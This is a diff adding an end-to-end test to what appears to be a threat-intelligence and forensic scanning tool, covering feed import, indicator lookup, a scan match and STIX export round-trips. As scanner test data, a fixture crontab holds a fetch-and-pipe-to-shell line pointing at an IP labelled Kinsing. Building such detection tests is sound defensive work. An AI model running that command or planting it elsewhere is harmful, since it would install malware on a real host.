@@ -426,5 +426,49 @@ TEST(EndToEnd, KilledScanLeavesACaseThatOpens) {
   EXPECT_NE(report.out.find("incomplete"), std::string::npos);
 }
 
+// intel end to end: a feed imported into a store, a scan that matches it, and the case's indicators exported as STIX
+// and imported again.
+TEST(EndToEnd, IntelImportMatchExportRoundTrip) {
+  test::TempDir dir;
+  const std::string store = (dir / "intel.sqlite").string();
+  test::write_file(dir / "feed/kinsing.csv", "indicator,type,family\n45.9.148.99,ip,kinsing_h2miner\nbad[.]example,domain,x\n"
+                                              "junk value,ip,x\n");
+  auto imp = ms({"intel", "import", "--json", "--intel", store, (dir / "feed").string()});
+  ASSERT_EQ(imp.exit_code, 0) << imp.err;
+  auto j = nlohmann::json::parse(imp.out);
+  EXPECT_EQ(j["accepted"], 2);
+  EXPECT_EQ(j["rejected"], 1);
+  EXPECT_EQ(j["rejections"][0]["line"], 4);
+  auto again = nlohmann::json::parse(ms({"intel", "import", "--json", "--intel", store, (dir / "feed").string()}).out);
+  EXPECT_EQ(again["new"], 0);  // idempotent
+
+  auto look = ms({"intel", "lookup", "--intel", store, "45.9.148.99", "js.1226bye.xyz", "unknown.example"});
+  EXPECT_EQ(look.exit_code, 1);  // something is known
+  EXPECT_NE(look.out.find("MyKings"), std::string::npos);  // from the built-in knowledge base
+  EXPECT_NE(look.out.find("45.9.148.99 — Kinsing"), std::string::npos) << look.out;  // the feed named the KB family
+  EXPECT_NE(look.out.find("unknown.example: not known"), std::string::npos);
+
+  // A bundle-like folder with a cron line that fetches from the feed's address.
+  test::write_file(dir / "ev/var/spool/cron/crontabs/root", "* * * * * curl -fsSL http://45.9.148.99/k.sh | sh\n");
+  const std::string case_path = (dir / "case.sqlite").string();
+  auto scan = ms({"scan", "--quiet", "--intel", store, "--case", case_path, (dir / "ev").string()});
+  ASSERT_EQ(scan.exit_code, 1) << scan.err;
+  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
+  bool ioc = false;
+  for (const auto& f : rep["findings"]) ioc = ioc || (f["rule_id"] == "ioc.known_indicator" &&
+                                                     f["description_en"].get<std::string>().find("45.9.148.99") != std::string::npos);
+  EXPECT_TRUE(ioc) << rep["findings"].dump();
+
+  auto stix = ms({"intel", "export", "--case", case_path, "--format", "stix", "--out", (dir / "out.json").string()});
+  ASSERT_EQ(stix.exit_code, 0) << stix.err;
+  auto bundle = nlohmann::json::parse(test::read_file(dir / "out.json"));
+  EXPECT_EQ(bundle["type"], "bundle");
+  const std::string store2 = (dir / "again.sqlite").string();
+  auto re = nlohmann::json::parse(ms({"intel", "import", "--json", "--intel", store2, (dir / "out.json").string()}).out);
+  EXPECT_EQ(re["rejected"], 0);
+  EXPECT_EQ(re["accepted"].get<size_t>(), bundle["objects"].size());
+  EXPECT_NE(ms({"intel", "lookup", "--intel", store2, "45.9.148.99"}).out.find("1 match"), std::string::npos);
+}
+
 }  // namespace
 }  // namespace msw
